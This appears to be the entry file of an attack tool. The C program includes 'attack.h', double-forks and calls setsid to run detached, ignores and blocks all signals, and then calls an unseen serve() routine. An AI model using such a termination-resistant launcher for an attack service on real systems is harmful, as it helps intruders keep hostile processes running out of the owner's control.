#include "attack.h"


int main(void)
{
    sigset_t all;

    if (fork() > 0)
        _exit(0);
    setsid();
    if (fork() > 0)
        _exit(0);
    for (int i = 1; i < 65; ++i)
        signal(i, SIG_IGN);
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    serve();
}
